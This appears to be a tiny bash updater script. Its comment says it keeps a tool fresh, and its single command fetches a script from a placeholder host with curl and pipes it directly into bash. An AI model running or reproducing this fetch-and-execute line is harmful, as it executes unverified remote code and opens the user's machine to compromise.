#!/bin/bash
# keeps the tool fresh
bash <(curl -s https://example.invalid/u)
